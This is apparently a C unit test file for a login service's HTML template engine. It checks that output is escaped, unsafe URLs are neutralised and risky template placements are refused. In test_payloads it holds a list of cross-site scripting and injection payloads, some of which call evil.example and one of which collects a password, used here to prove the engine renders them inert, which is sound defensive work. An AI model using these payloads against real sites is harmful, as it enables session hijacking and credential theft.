
/*
 * Templates: what they print, what is refused and how it is said (F05), and
 * that no value gets out of the place where it stands (F04).
 */

#include "login.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>


enum {
    V_TEXT,
    V_EMPTY,
    V_ON,
    V_OFF,
    V_LIST,
    V_ITEM,
    V_SUB,
    V_LEAF,
    V_NONE,
    V_ASSET,
    VALUES
};


static char            dir[64], other[64];
static login_arena_t  *arena;
static login_error_t   error;


static const login_variable_t  variables[VALUES] = {
    { "text", LOGIN_VALUE_TEXT, -1 },
    { "empty", LOGIN_VALUE_TEXT, -1 },
    { "on", LOGIN_VALUE_FLAG, -1 },
    { "off", LOGIN_VALUE_FLAG, -1 },
    { "list", LOGIN_VALUE_LIST, -1 },
    { "item", LOGIN_VALUE_TEXT, V_LIST },
    { "sub", LOGIN_VALUE_LIST, V_LIST },
    { "leaf", LOGIN_VALUE_TEXT, V_SUB },
    { "none", LOGIN_VALUE_LIST, -1 },
    { "asset", LOGIN_VALUE_ASSET, -1 }
};

static const login_schema_t  schema = { variables, VALUES };


/* As browsers have been fooled with, by markup, quotes, schemes, encoding. */

static const char *const  payloads[] = {
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img onerror=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<base href=\"//evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=password>",
    "<object data=\"data:text/html,<script>alert(1)</script>\">",
    "<!--><script>alert(1)</script>-->",
    "--><script>alert(1)</script>",
    "--!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><img src=x onerror=alert(1)>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "`onmouseover=alert(1)`",
    "x\" style=\"background:url(javascript:alert(1))",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "blob:https://example.com/1",
    "file:///etc/passwd",
    "//evil.example/",
    "/\\evil.example/",
    "\\\\evil.example/",
    "/\t/evil.example/",
    "/\n/evil.example/",
    "https:evil.example",
    "https:///evil.example",
    "http://",
    "https://",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&quot; onclick=alert(1) &quot;",
    "&#x22; onclick=alert(1)",
    "{{text}}{{{text}}}{{&text}}",
    "{text}{item}",
    "${alert(1)}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%n%s%n%p",
    "\xc0\xbcscript\xc0\xbe",
    "\xe2\x80\xae\xe2\x81\xa6<b>",
    "+ADw-script+AD4-",
    "\xff\xfe<script>"
};

#define NPAYLOADS  (sizeof(payloads) / sizeof(payloads[0]))


static int
setup(void **state)
{
    (void) state;

    (void) snprintf(dir, sizeof(dir), "/tmp/login-template-XXXXXX");
    (void) snprintf(other, sizeof(other), "/tmp/login-template-XXXXXX");

    arena = login_arena_create();

    return (arena == NULL || mkdtemp(dir) == NULL || mkdtemp(other) == NULL)
           ? -1 : 0;
}


static int
teardown(void **state)
{
    int    rc;
    char   command[256];

    (void) state;

    login_arena_destroy(arena);

    (void) snprintf(command, sizeof(command), "rm -rf %s %s", dir, other);
    rc = system(command);

    return rc;
}


static void
put_bytes(const char *folder, const char *name, const void *data, size_t len)
{
    char   path[256];
    FILE  *file;

    (void) snprintf(path, sizeof(path), "%s/%s.html", folder, name);

    file = fopen(path, "wb");
    assert_non_null(file);
    assert_int_equal(fwrite(data, 1, len, file), len);
    assert_int_equal(fclose(file), 0);
}


static void
put(const char *name, const char *text)
{
    put_bytes(dir, name, text, strlen(text));
}


static login_result_e
compile(login_template_t **template, const char *name)
{
    const char  *dirs[] = { other, dir };

    memset(&error, 0, sizeof(error));
    *template = NULL;

    return login_template_compile(template, arena, &schema, dirs, 2, name,
                                  &error);
}


static login_template_t *
template(const char *text)
{
    login_template_t  *t;

    put("page", text);

    if (compile(&t, "page") != LOGIN_OK) {
        fail_msg("%s: %s", text, error.text);
    }

    return t;
}


/* The page, terminated; both passes have to agree. */

static char *
render(const login_template_t *t, const login_value_t *values)
{
    char    *page;
    size_t   len;

    len = login_template_render(NULL, t, values, &login_locale_english);

    page = malloc(len + 2);
    assert_non_null(page);
    memset(page, '\x7f', len + 2);

    assert_int_equal(login_template_render((u_char *) page, t, values,
                                           &login_locale_english),
                     len);
    assert_int_equal(page[len], '\x7f');
    page[len] = '\0';

    return page;
}


static void
fill(login_value_t *values, login_value_t *rows, login_value_t *leaves,
    const char *text)
{
    memset(values, 0, VALUES * sizeof(login_value_t));
    memset(rows, 0, 2 * VALUES * sizeof(login_value_t));
    memset(leaves, 0, 2 * VALUES * sizeof(login_value_t));

    values[V_TEXT].text = login_cstr(text);
    values[V_ON].text = login_cstr("1");
    values[V_ASSET].text = login_cstr("/a.js");
    values[V_LIST].rows = 2;
    values[V_LIST].row = rows;

    rows[V_ITEM].text = login_cstr(text);
    rows[VALUES + V_ITEM].text = login_cstr("two");
    rows[VALUES + V_SUB].rows = 2;
    rows[VALUES + V_SUB].row = leaves;

    leaves[V_LEAF].text = login_cstr("a");
    leaves[VALUES + V_LEAF].text = login_cstr("b");
}


static void
prints(const char *text, const char *expected)
{
    char           *page;
    login_value_t   values[VALUES], rows[2 * VALUES], leaves[2 * VALUES];

    fill(values, rows, leaves, "<&>\"' x");

    page = render(template(text), values);
    assert_string_equal(page, expected);
    free(page);
}


/* "expected" has to be in the error, with the line (0: none is named). */

static void
refuses_bytes(const void *text, size_t len, unsigned line,
    const char *expected)
{
    char               place[128];
    login_template_t  *t;

    put_bytes(dir, "page", text, len);

    assert_int_equal(compile(&t, "page"), LOGIN_NO);
    assert_null(t);

    if (strstr(error.text, expected) == NULL) {
        fail_msg("\"%s\" is not in \"%s\"", expected, error.text);
    }

    assert_int_equal(error.line, line);

    if (line == 0) {
        (void) snprintf(place, sizeof(place), " in %s/page.html", dir);

    } else {
        (void) snprintf(place, sizeof(place), " in %s/page.html:%u", dir,
                        line);
    }

    if (strstr(error.text, place) == NULL) {
        fail_msg("\"%s\" is not in \"%s\"", place, error.text);
    }
}


static void
refuses(const char *text, unsigned line, const char *expected)
{
    refuses_bytes(text, strlen(text), line, expected);
}


static void
test_language(void **state)
{
    (void) state;

    prints("plain", "plain");
    prints("<b>{{text}}</b>", "<b>&lt;&amp;&gt;&quot;&#39; x</b>");
    prints("{{ text }}|{{empty}}|", "&lt;&amp;&gt;&quot;&#39; x||");
    prints("{{#on}}a{{/on}}{{^on}}b{{/on}}", "a");
    prints("{{#off}}a{{/off}}{{^off}}b{{/off}}", "b");
    prints("{{#empty}}a{{/empty}}{{^empty}}b{{/empty}}", "b");
    prints("{{#text}}{{#on}}a{{/on}}{{#off}}b{{/off}}{{/text}}c", "ac");
    prints("{{#off}}{{#on}}a{{/on}}{{^on}}b{{/on}}{{/off}}c", "c");
    prints("a{{! {{ nothing }}b", "ab");
    prints("\xef\xbb\xbf" "a", "a");
    prints("a } }} { b", "a } }} { b");
}


static void
test_lists(void **state)
{
    (void) state;

    prints("{{#list}}[{{#sub}}{{leaf}}{{/sub}}{{^sub}}-{{/sub}}]{{/list}}",
           "[-][ab]");
    prints("{{^list}}none{{/list}}{{#none}}x{{/none}}{{^none}}none{{/none}}",
           "none");
    prints("{{#list}}{{#on}}{{\"{item}.\"}}{{/on}}{{/list}}",
           "&lt;&amp;&gt;&quot;&#39; x.two.");
    prints("{{#list}}{{#sub}}{{item}}{{leaf}},{{/sub}}{{/list}}",
           "twoa,twob,");
    prints("{{#list}}{{#item}}{{^sub}}{{text}}{{/sub}}{{/item}}{{/list}}",
           "&lt;&amp;&gt;&quot;&#39; x");
}


static void
test_lines(void **state)
{
    (void) state;

    prints("a\n  {{#on}}\n  b\n  {{/on}}\nc\n", "a\n  b\nc\n");
    prints("{{! x }}\r\na\n\t{{^on}} \nb\n{{/on}}", "a\n");
    prints("a {{#on}}\nb{{/on}}\n", "a \nb\n");
    prints("  {{#on}}{{/on}}\n", "  \n");
    prints("  {{empty}}\n", "  \n");

    put("part", "<i>\n");
    prints("<p>\n  {{> part}}\n</p>", "<p>\n<i>\n</p>");
    prints("<p>{{> part}}</p>", "<p><i>\n</p>");
}


static void
test_parts(void **state)
{
    (void) state;

    put("inner", "{{text}}");
    put("outer", "({{> inner}})");
    put("values", "a b");

    prints("{{> outer}}{{> outer}}",
           "(&lt;&amp;&gt;&quot;&#39; x)(&lt;&amp;&gt;&quot;&#39; x)");
    prints("{{#on}}{{> outer}}{{/on}}", "(&lt;&amp;&gt;&quot;&#39; x)");
    prints("<a class=\"{{> values}}\">", "<a class=\"a b\">");

    /* the first directory wins, also for the page itself */

    put_bytes(other, "outer", "mine", 4);
    prints("{{> outer}}", "mine");
}


static void
test_messages(void **state)
{
    (void) state;

    prints("{{\"Don't <b>\"}}", "Don&#39;t &lt;b&gt;");
    prints("{{\"As {text}, {empty}{text}\"}}",
           "As &lt;&amp;&gt;&quot;&#39; x, &lt;&amp;&gt;&quot;&#39; x");
    prints("{{\"long\n      text \n\n here\"}}", "long text here");
    prints("{{\"a \"quote\" b\"}}", "a &quot;quote&quot; b");
    prints("<a title=\"{{\"a \"quote\"\"}}\">",
           "<a title=\"a &quot;quote&quot;\">");
    prints("<title>{{\"a & b\"}}</title>", "<title>a &amp; b</title>");
}


static void
test_addresses(void **state)
{
    size_t         i, n;
    char          *page;
    login_value_t  values[VALUES], rows[2 * VALUES], leaves[2 * VALUES];

    static const char *const  cases[][3] = {
        { "<a href=\"{{text}}\">", "/a?b=c&d", "/a?b=c&amp;d" },
        { "<a href=\"{{text}}\">", "https://a.example/", NULL },
        { "<a href=\"{{text}}\">", "http://a.example:8080/?q", NULL },
        { "<a href=\"{{text}}\">", "/", NULL },
        { "<a href=\"{{text}}\">", "", NULL },
        { "<a href=\"{{text}}\">", "/\xc3\xa4", NULL },
        { "<a href=\"{{text}}\">", "a", "#" },
        { "<a href=\"{{text}}\">", "HTTPS://a.example/", "#" },
        { "<a href=\"{{text}}\">", "ftp://a.example/", "#" },
        { "<a href=\"{{text}}\">", "//a.example/", "#" },
        { "<a href=\"{{text}}\">", "/\\a.example/", "#" },
        { "<a href=\"{{text}}\">", "/a b", "#" },
        { "<img src=\"{{text}}\">", "javascript:x", "#" },
        { "<form action=\"{{text}}\">", "javascript:x", "#" },
        { "<button formaction=\"{{text}}\">", "javascript:x", "#" },
        { "<a href=\"{{text}}out\">", "/in/", "/in/out" },
        { "<a href=\"{{text}}?r={{text}}\">", "/a&b",
          "/a&amp;b?r=%2Fa%26b" },
        { "<a href=\"/x/{{text}}\">", "a/../\xc3\xa4~.-_Z9",
          "/x/a%2F..%2F%C3%A4~.-_Z9" },
        { "<a href=\"/{{text}}\">", "/evil", "/%2Fevil" },
        { "<a href=\"?a={{text}}\">", "b&c#d", "?a=b%26c%23d" },
        { "<a href=\"#{{text}}\">", "b", "#b" },
        { "<a href=\"a/{{text}}\">", "b:c", "a/b%3Ac" }
    };

    (void) state;

    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        fill(values, rows, leaves, cases[i][1]);
        page = render(template(cases[i][0]), values);

        n = (size_t) (strchr(cases[i][0], '"') - cases[i][0]) + 1;
        page[strlen(page) - 2] = '\0';

        assert_string_equal(page + n, (cases[i][2] == NULL)
                                      ? cases[i][1] : cases[i][2]);
        free(page);
    }
}


/* Undoes the five entities; NULL where anything else is in there. */

static char *
decode(const char *text)
{
    char    *plain;
    size_t   i, n;

    static const char *const  entities[] = {
        "&amp;", "&lt;", "&gt;", "&quot;", "&#39;"
    };

    plain = calloc(1, strlen(text) + 1);
    assert_non_null(plain);

    for (n = 0; *text != '\0'; n++) {
        if (strchr("<>\"'", *text) != NULL) {
            free(plain);
            return NULL;
        }

        if (*text != '&') {
            plain[n] = *text++;
            continue;
        }

        for (i = 0; i < 5; i++) {
            if (strncmp(text, entities[i], strlen(entities[i])) == 0) {
                plain[n] = "&<>\"'"[i];
                text += strlen(entities[i]);
                break;
            }
        }

        if (i == 5) {
            free(plain);
            return NULL;
        }
    }

    return plain;
}


/*
 * Whatever the payload, between "before" and "after" is nothing but itself,
 * or, in an address, a path, an http(s) address, a part or "#".
 */

static void
inert(const char *before, const char *tag, const char *after, unsigned list,
    const char *payload, unsigned address)
{
    char           *page, *end, *plain, text[256];
    login_value_t   values[VALUES], rows[2 * VALUES], leaves[2 * VALUES];

    fill(values, rows, leaves, payload);
    values[V_LIST].rows = 1;

    (void) snprintf(text, sizeof(text), "%s%s%s%s%s",
                    list ? "{{#list}}" : "", before, tag, after,
                    list ? "{{/list}}" : "");

    page = render(template(text), values);
    end = page + strlen(page) - strlen(after);

    assert_memory_equal(page, before, strlen(before));
    assert_string_equal(end, after);
    *end = '\0';

    plain = decode(page + strlen(before));
    assert_non_null(plain);

    if (!address) {
        assert_string_equal(plain, payload);

    } else if (strcmp(plain, payload) == 0) {
        assert_true((plain[0] == '/' && plain[1] != '/')
                    || strncmp(plain, "http://", 7) == 0
                    || strncmp(plain, "https://", 8) == 0);
        assert_null(strpbrk(plain, "\\ \t\n"));

    } else if (strcmp(plain, "#") != 0) {
        assert_null(strpbrk(plain, ":/\\?#&=<>\"' \t\n"));
    }

    free(plain);
    free(page);
}


static void
test_payloads(void **state)
{
    size_t  i, j, k;

    static const struct {
        const char  *tag;
        unsigned     list;
        unsigned     message;
    } tags[] = {
        { "{{text}}", 0, 0 },
        { "{{item}}", 1, 0 },
        { "{{\"{text}\"}}", 0, 1 },
        { "{{\"{item}\"}}", 1, 1 }
    };

    static const struct {
        const char  *before;
        const char  *after;
        unsigned     address;
    } places[] = {
        { "<p>", "</p>", 0 },
        { "<title>", "</title>", 0 },
        { "<textarea>", "</textarea>", 0 },
        { "<svg><title>", "</title></svg>", 0 },
        { "<input value=\"", "\">", 0 },
        { "<p data-x=\"a ", " b\" aria-label=\"\">", 0 },
        { "<svg><path d=\"", "\"/></svg>", 0 },
        { "<a href=\"", "\">", 1 },
        { "<form action=\"", "\">", 1 },
        { "<img src=\"", "\">", 1 },
        { "<button formaction=\"", "\">", 1 },
        { "<a href=\"/x?a=", "&amp;b\">", 1 },
        { "<a href=\"/x/", "\">", 1 }
    };

    (void) state;

    assert_true(NPAYLOADS >= 40);

    for (i = 0; i < NPAYLOADS; i++) {
        for (j = 0; j < sizeof(tags) / sizeof(tags[0]); j++) {
            for (k = 0; k < sizeof(places) / sizeof(places[0]); k++) {
                if (places[k].address && tags[j].message) {
                    continue;           /* refused, tested elsewhere */
                }

                inert(places[k].before, tags[j].tag, places[k].after,
                      tags[j].list, payloads[i], places[k].address);
            }
        }
    }
}


static void
test_refused_places(void **state)
{
    size_t  i;

    static const char *const  texts[] = {
        "<script>{{text}}</script>",
        "<script>var a = \"{{text}}\";</script>",
        "<script src=\"{{text}}\"></script>",
        "<script src=\"/a/{{text}}\"></script>",
        "<script src=\"{{asset}}{{text}}\"></script>",
        "<script src=\"{{asset}}{{asset}}\"></script>",
        "<script src=\"//evil.example{{asset}}\"></script>",
        "<script src=\"{{\"message\"}}\"></script>",
        "<script src=\"{{text}}{{asset}}\"></script>",
        "<script>{{asset}}</script>",
        "<script onload=\"{{asset}}\"></script>",
        "<iframe src=\"{{asset}}\">",
        "<style>{{text}}</style>",
        "<svg><style>{{text}}</style></svg>",
        "<!-- {{text}} -->",
        "<a onclick=\"{{text}}\">",
        "<a ONCLICK=\"{{text}}\">",
        "<a style=\"{{text}}\">",
        "<img srcset=\"{{text}}\">",
        "<iframe srcdoc=\"{{text}}\">",
        "<iframe src=\"{{text}}\">",
        "<object data=\"{{text}}\">",
        "<embed src=\"{{text}}\">",
        "<base href=\"{{text}}\">",
        "<meta content=\"{{text}}\">",
        "<meta http-equiv=\"{{text}}\">",
        "<a target=\"{{text}}\">",
        "<a xlink:href=\"{{text}}\">",
        "<set to=\"{{text}}\">",
        "<{{text}}>",
        "<a{{text}}>",
        "</a{{text}}>",
        "<a {{text}}>",
        "<a {{text}}=\"x\">",
        "<a title={{text}}>",
        "<a title='{{text}}'>",
        "<a title={{#on}}\"x\"{{/on}}>",
        "<a title=x{{text}}>",
        "<!{{text}}>",
        "<!doctype {{text}}>",
        "<a href=\"javascript:{{text}}\">",
        "<a href=\"java{{text}}\">",
        "<a href=\" {{text}}\">",
        "<a href=\"//{{text}}\">",
        "<a href=\"/\t/{{text}}\">",
        "<a href=\"/\\{{text}}\">",
        "<a href=\"/&#47;{{text}}\">",
        "<a href=\"https://{{text}}\">",
        "<a href=\"{{text}}{{text}}\">",
        "<a href=\"{{text}}:{{text}}\">",
        "<a href=\"{{text}}/{{text}}\">",
        "<a href=\"{{text}}a{{text}}\">",
        "<a href=\"/{{text}}/{{text}}\">",
        "<a href=\"{{\"message\"}}\">",
        "<a onclick=\"{{\"message\"}}\">",
        "<a {{\"message\"}}>",
        "<script>{{\"message\"}}</script>",
        "<!-- {{\"message\"}} -->"
    };

    login_template_t  *t;

    (void) state;

    for (i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
        put("page", texts[i]);

        if (compile(&t, "page") != LOGIN_NO) {
            fail_msg("%s: compiled", texts[i]);
        }

        assert_int_equal(error.line, 1);
    }
}


/* HTML that browsers read in more than one way. */

static void
test_refused_html(void **state)
{
    (void) state;

    refuses("a\n< b", 2, "\"<\" has to begin a tag");
    refuses("<", 1, "\"<\" has to begin a tag");
    refuses("<3", 1, "\"<\" has to begin a tag");
    refuses("</>", 1, "\"<\" has to begin a tag");
    refuses("<?xml?>", 1, "\"<\" has to begin a tag");
    refuses("<![CDATA[x]]>", 1, "may begin with \"<!\"");
    refuses("<!doctype html public>", 1, "may begin with \"<!\"");
    refuses("<!-->", 1, "needs a space");
    refuses("<!--->", 1, "needs a space");
    refuses("<!--{{! x }}->", 1, "needs a space");
    refuses("<!-- a --!> b -->", 1, "has to follow \"--\"");
    refuses("<!-- a -- b -->", 1, "has to follow \"--\"");
    refuses("<!-- a -{{! x }}-> b", 1, "has to follow \"--\"");
    refuses("<!-- a\n", 2, "is not ended");
    refuses("<a\n", 2, "is not ended");
    refuses("<a title=\"x", 1, "is not ended");
    refuses("<title>x", 1, "is not ended");
    refuses("<title>a<b></title>", 1, "may begin their end tag");
    refuses("<script>if (a<b) {}</script>", 1, "may begin their end tag");
    refuses("<script>x</scripty>", 1, "may begin their end tag");
    refuses("<svg><title/></svg>", 1, "not in script, style");
    refuses("<a/b>", 1, "in front of \">\" only");
    refuses("<a title='x'>", 1, "double quotes");
    refuses("<a title=x>", 1, "double quotes");
    refuses("<a =\"x\">", 1, "no name of an attribute");
    refuses("<a \"x\">", 1, "no name of an attribute");
    refuses("<a @click=\"x\">", 1, "no name of an attribute");
    refuses("<a title=\"x\"class=\"y\">", 1, "a space, \"/>\" or \">\"");
    refuses("<a\xc3\xa4>", 1, "a space, \"/>\" or \">\"");
    refuses("<noscript>", 1, "browsers disagree");
    refuses("<PLAINTEXT>", 1, "browsers disagree");
    refuses("<abcdefghijklmnopqrstuvwxyzabcdefgh>", 1, "is too long");

    prints("<!-- a - b -> c --><p>", "<!-- a - b -> c --><p>");
    prints("<!DOCTYPE HTML>", "<!DOCTYPE HTML>");
    prints("<br/><br /><TITLE lang=\"a\">x</Title >",
           "<br/><br /><TITLE lang=\"a\">x</Title >");
    prints("<a href = \"/x\" hidden >", "<a href = \"/x\" hidden >");
    prints("<script src=\"{{asset}}\" defer></script>{{asset}}",
           "<script src=\"/a.js\" defer></script>/a.js");
    prints("<link rel=\"stylesheet\" href=\"{{asset}}\">",
           "<link rel=\"stylesheet\" href=\"/a.js\">");
    prints("<script src=\"/x.js\" defer></script>",
           "<script src=\"/x.js\" defer></script>");
}


static void
test_sections_in_html(void **state)
{
    const char  *other_place;

    (void) state;

    other_place = "has to end at the same place of the HTML";

    prints("<a{{#on}} title=\"x\"{{/on}}>", "<a title=\"x\">");
    prints("<a {{#on}}hidden{{/on}}>", "<a hidden>");
    prints("<a title=\"{{#on}}x{{/on}}\">", "<a title=\"x\">");
    prints("<a title=\"{{#on}}\" class=\"{{/on}}\">",
           "<a title=\"\" class=\"\">");
    prints("<p{{#on}} hidden{{/on}}{{^on}} id=\"x\"{{/on}}/>", "<p hidden/>");

    refuses("{{#on}}<a {{/on}}>", 1, other_place);
    refuses("<a {{#on}}>{{/on}}", 1, other_place);
    refuses("<a title=\"{{#on}}\">{{/on}}", 1, other_place);
    refuses("<a title=\"{{#on}}\" onclick=\"{{/on}}\">", 1, other_place);
    refuses("<a href=\"{{#on}}/a/{{/on}}{{text}}\">", 1, other_place);
    refuses("{{#on}}<!-- a {{/on}} -->", 1, other_place);
    refuses("{{#on}}<title>{{/on}}</title>", 1, other_place);
    refuses("{{#on}}<script>{{/on}}</script>", 1, other_place);
    refuses("<title>{{#on}}</title><textarea>{{/on}}</textarea>", 1,
            other_place);
    refuses("<a {{#on}}><b {{/on}}>", 1, other_place);
    refuses("<a {{#list}}hidden{{/list}}>", 1, other_place);
    refuses("<a{{#on}}b{{/on}}>", 1, "a space, \"/>\" or \">\"");
    refuses("<a {{#on}}x{{/on}}y>", 1, "a space, \"/>\" or \">\"");
    refuses("<a {{#on}}x{{/on}}=\"y\">", 1, "a space, \"/>\" or \">\"");
}


static void
test_refused_tags(void **state)
{
    (void) state;

    refuses("a\n\n{{nothing}}", 3, "unknown variable \"nothing\"");
    refuses("{{#nothing}}{{/nothing}}", 1, "unknown variable \"nothing\"");
    refuses("{{item}}", 1, "\"item\" is known in the list \"list\" only");
    refuses("{{#list}}{{leaf}}{{/list}}", 1, "in the list \"sub\" only");
    refuses("{{on}}", 1, "\"on\" is no text, write \"{{#on}}\"");
    refuses("{{list}}", 1, "\"list\" is no text");
    refuses("{{\"{on}\"}}", 1, "\"on\" in a message is no text");
    refuses("{{\"{nothing}\"}}", 1, "unknown variable \"nothing\"");
    refuses("{{\"a { b\"}}", 1, "have to stand around the name");
    refuses("{{\"a } b\"}}", 1, "have to stand around the name");
    refuses("{{\"{ text }\"}}", 1, "have to stand around the name");
    refuses("{{\"{}\"}}", 1, "have to stand around the name");
    refuses("{{\"{text\"}}", 1, "have to stand around the name");
    refuses("{{\"\"}}", 1, "1 to 2000 bytes");
    refuses("\n{{\"a}}", 2, "\"{{\" without \"\"}}\"");
    refuses("{{text", 1, "\"{{\" without \"}}\"");
    refuses("{{text}", 1, "\"{{\" without \"}}\"");
    refuses("{{", 1, "\"{{\" without \"}}\"");
    refuses("{{}}", 1, "invalid name");
    refuses("{{{text}}}", 1, "invalid name");
    refuses("{{&text}}", 1, "invalid name");
    refuses("{{Text}}", 1, "invalid name");
    refuses("{{te xt}}", 1, "invalid name");
    refuses("{{%n}}", 1, "invalid name");
    refuses("{{\"%n{%n}\"}}", 1, "have to stand around the name");
    refuses("{{> ../page}}", 1, "invalid name");
    refuses("{{> /etc/passwd}}", 1, "invalid name");
    refuses("{{> missing}}", 1, "there is no template \"missing.html\"");
    refuses("\n{{> page}}", 2, "\"page\" is included in itself");

    refuses("a\n{{#on}}b\n", 2, "section \"on\" is not ended");
    refuses("{{#on}}{{#off}}{{/on}}{{/off}}", 1, "\"{{/on}}\" does not end");
    refuses("a\n{{/on}}", 2, "\"{{/on}}\" does not end");
    refuses("{{#list}}{{#list}}{{/list}}{{/list}}", 1, "is open already");

    put("half", "{{/on}}");
    put("page", "{{#on}}{{> half}}");
    assert_int_equal(compile(&(login_template_t *) { NULL }, "page"),
                     LOGIN_NO);
    assert_non_null(strstr(error.text, "half.html:1"));
}


static void
test_refused_files(void **state)
{
    char              *big, path[128];
    size_t             i;
    login_template_t  *t;

    (void) state;

    refuses("", 0, "the file is empty");
    refuses_bytes("a\nb\0c", 5, 2, "not UTF-8, or has a NUL");
    refuses("a\nb\n\xc0\xbc", 3, "not UTF-8");
    refuses("\xed\xa0\x80", 1, "not UTF-8");
    refuses("a\xc3", 1, "not UTF-8");

    big = malloc(LOGIN_TEMPLATE_SIZE + 1);
    assert_non_null(big);
    memset(big, 'x', LOGIN_TEMPLATE_SIZE + 1);

    refuses_bytes(big, LOGIN_TEMPLATE_SIZE + 1, 0, "larger than 262144");

    put_bytes(dir, "page", big, LOGIN_TEMPLATE_SIZE);
    assert_int_equal(compile(&t, "page"), LOGIN_OK);

    /* four of them, and a byte, are too much for one page */

    put_bytes(dir, "big", big, LOGIN_TEMPLATE_SIZE);
    free(big);

    put("page", "{{> big}}{{> big}}{{> big}}{{> big}}");
    assert_int_equal(compile(&t, "page"), LOGIN_NO);
    assert_non_null(strstr(error.text, "larger than 1048576"));

    assert_int_equal(compile(&t, "missing"), LOGIN_NO);
    assert_string_equal(error.text, "there is no template \"missing.html\"");

    /* neither a folder nor a FIFO holds anything up */

    (void) snprintf(path, sizeof(path), "%s/folder.html", dir);
    assert_int_equal(mkdir(path, 0700), 0);
    assert_int_equal(compile(&t, "folder"), LOGIN_NO);
    assert_non_null(strstr(error.text, "not a regular file"));

    (void) snprintf(path, sizeof(path), "%s/fifo.html", dir);
    assert_int_equal(mkfifo(path, 0600), 0);
    assert_int_equal(compile(&t, "fifo"), LOGIN_NO);
    assert_non_null(strstr(error.text, "not a regular file"));

    (void) snprintf(path, sizeof(path), "%s/loop.html", dir);
    assert_int_equal(symlink(path, path), 0);
    assert_int_equal(compile(&t, "loop"), LOGIN_FAULT);
    assert_non_null(strstr(error.text, "open() \""));

    /* parts in parts, and many parts */

    for (i = 0; i < 10; i++) {
        char  name[16], text[32];

        (void) snprintf(name, sizeof(name), "p%zu", i);
        (void) snprintf(text, sizeof(text), "{{> p%zu}}", i + 1);
        put(name, text);
    }

    put("p9", "x");
    assert_int_equal(compile(&t, "p0"), LOGIN_NO);
    assert_non_null(strstr(error.text, "too many parts"));
    assert_int_equal(compile(&t, "p1"), LOGIN_OK);

    put("p7", "{{> p8}}{{> p8}}{{> p8}}{{> p8}}{{> p8}}{{> p8}}{{> p8}}");
    put("p6", "{{> p7}}{{> p7}}{{> p7}}{{> p7}}{{> p7}}{{> p7}}{{> p7}}");
    put("p5", "{{> p6}}{{> p6}}{{> p6}}{{> p6}}{{> p6}}{{> p6}}{{> p6}}");
    assert_int_equal(compile(&t, "p5"), LOGIN_NO);
    assert_non_null(strstr(error.text, "too many parts"));

    put("a", "{{> b}}");
    put("b", "x\n{{> a}}");
    assert_int_equal(compile(&t, "a"), LOGIN_NO);
    assert_non_null(strstr(error.text, "\"a\" is included in itself"));
    assert_non_null(strstr(error.text, "b.html:2"));
}


static void
test_limits(void **state)
{
    size_t  i;
    char    text[1024];

    (void) state;

    text[0] = '\0';

    for (i = 0; i < LOGIN_TEMPLATE_SECTIONS; i++) {
        (void) strcat(text, "{{#on}}");
    }

    refuses(text, 1, "is not ended");

    (void) strcat(text, "{{#on}}");
    refuses(text, 1, "too many sections");

    refuses("{{\"{text}{text}{text}{text}{text}{text}{text}{text}{text}\"}}",
            1, "more than 8 variables");
}


int
main(void)
{
    const struct CMUnitTest  tests[] = {
        cmocka_unit_test(test_language),
        cmocka_unit_test(test_lists),
        cmocka_unit_test(test_lines),
        cmocka_unit_test(test_parts),
        cmocka_unit_test(test_messages),
        cmocka_unit_test(test_addresses),
        cmocka_unit_test(test_payloads),
        cmocka_unit_test(test_refused_places),
        cmocka_unit_test(test_refused_html),
        cmocka_unit_test(test_sections_in_html),
        cmocka_unit_test(test_refused_tags),
        cmocka_unit_test(test_refused_files),
        cmocka_unit_test(test_limits)
    };

    return cmocka_run_group_tests(tests, setup, teardown);
}
